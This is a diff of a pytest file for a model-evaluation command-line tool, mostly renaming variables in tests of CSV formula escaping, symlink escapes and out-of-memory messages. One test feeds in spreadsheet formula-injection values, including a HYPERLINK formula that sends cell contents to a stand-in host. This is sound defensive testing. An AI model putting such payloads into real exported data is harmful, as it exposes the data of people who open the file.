@@ -34,16 +34,18 @@ def test_a_lost_protocol_is_no_empty_folder(tmp_path, shell):
 @pytest.mark.case(57)
 def test_formulas_in_a_table_of_results(tmp_path, shell):
     "A spreadsheet finds texts where a set has formulas; the lines keep them as they are"
-    asked = dict(zip(('=1+1', '+2', '@SUM(A1)'), ('=HYPERLINK("http://x/?"&A1,"click")', '-2+3 is?', '\t=4')))
-    write_set(tmp_path / 'D', [dict(id=i, question=q, answer='-5') for i, q in asked.items()])
+    questions = dict(
+        zip(('=1+1', '+2', '@SUM(A1)'), ('=HYPERLINK("http://x/?"&A1,"click")', '-2+3 is?', '\t=4'))
+    )
+    write_set(tmp_path / 'D', [dict(id=i, question=q, answer='-5') for i, q in questions.items()])
     assert shell('eval', tmp_path / 'D', '--methods', 'none', '--out', tmp_path / 'R', *SHORT)[0] == 0
     rows = list(csv.DictReader(io.StringIO((tmp_path / 'R' / 'results.csv').read_text())))
     assert [r['id'] for r in rows] == ["'=1+1", '+2', "'@SUM(A1)"] and {r['truth'] for r in rows} == {
         '-5'
     }  # numbers stay
     assert not [v for r in rows for v in r.values() if v[:1] in '=@\t' and v]
-    assert rows[0]['question'] == "'" + asked['=1+1']
-    assert [l['id'] for l in lines(tmp_path / 'R')] == [*asked]
+    assert rows[0]['question'] == "'" + questions['=1+1']
+    assert [l['id'] for l in lines(tmp_path / 'R')] == [*questions]
 
 
 @pytest.fixture
@@ -58,29 +60,29 @@ def test_a_image_that_is_a_link_out_of_its_set(linked, shell, tmp_path):
     "As a tar keeps links: refused before a model is loaded or anything is sent; a link inside the set is a file of it"
     (linked / 'a.png').rename(linked / 'b.png')
     (linked / 'a.png').symlink_to(linked / 'b.png')
-    asked = lambda out, *more: shell(
+    evaluate = lambda out, *more: shell(
         'eval', linked, '--n', 1, '--methods', 'none', '--out', tmp_path / out, *SHORT, *more
     )
-    assert asked('R')[0] == 0
+    assert evaluate('R')[0] == 0
     (linked / 'a.png').unlink()
     (linked / 'a.png').symlink_to(tmp_path / 'secret.png')
     for more in (), ('--answer-by', 'http://127.0.0.1:9/v1#m'):
-        status, _, said = asked('S', *more)
+        status, _, err = evaluate('S', *more)
         assert (
             status == 2
-            and f'{linked}/a.png leads out of the folder of the set' in said
-            and 'leave this machine' not in said
-        ), said
+            and f'{linked}/a.png leads out of the folder of the set' in err
+            and 'leave this machine' not in err
+        ), err
 
 
 @pytest.mark.parametrize('named', [False, True])
 def test_questions_that_are_a_link_out_of_their_set(linked, shell, tmp_path, named):
     (linked / 'q.jsonl').rename(tmp_path / 'q.jsonl')
     (linked / 'q.jsonl').symlink_to(tmp_path / 'q.jsonl')
-    status, _, said = shell(
+    status, _, err = shell(
         'eval', linked / 'q.jsonl' if named else linked, '--methods', 'none', '--out', tmp_path / 'R', *SHORT
     )
-    assert status == 2 and 'q.jsonl leads out of the folder of the set' in said, said
+    assert status == 2 and 'q.jsonl leads out of the folder of the set' in err, err
 
 
 @pytest.mark.parametrize('kind', ['snapshot', 'link out', 'blobs out'])
@@ -96,11 +98,11 @@ def test_a_snapshot_of_the_hub(tmp_path, shell, kind):
     snapshot.mkdir(parents=True)
     for name in 'q.jsonl', 'a.png':
         (snapshot / name).symlink_to((outside if kind == 'link out' else blobs) / name)
-    status, _, said = shell('eval', snapshot, '--n', 1, '--methods', 'none', '--out', tmp_path / 'R', *SHORT)
+    status, _, err = shell('eval', snapshot, '--n', 1, '--methods', 'none', '--out', tmp_path / 'R', *SHORT)
     if kind == 'snapshot':
-        assert status == 0, said
+        assert status == 0, err
     else:
-        assert status == 2 and 'leads out of the folder of the set' in said, said
+        assert status == 2 and 'leads out of the folder of the set' in err, err
 
 
 @pytest.mark.case(44)
@@ -120,10 +122,10 @@ def test_too_little_memory_for_the_weights(shell, tmp_path, monkeypatch, error):
 
     monkeypatch.setattr(loading.AutoModelForImageTextToText, 'from_pretrained', fail)
     Image.new('RGB', (60, 50), 'red').save(tmp_path / 'a.png')
-    status, shown, said = shell('ask', tmp_path / 'a.png', 'What is it?')
+    status, out, err = shell('ask', tmp_path / 'a.png', 'What is it?')
     assert (
-        (status, shown) == (1, '')
-        and 'memory ran out' in said
-        and 'bfloat16' in said
-        and 'safetensors' not in said
-    ), said
+        (status, out) == (1, '')
+        and 'memory ran out' in err
+        and 'bfloat16' in err
+        and 'safetensors' not in err
+    ), err
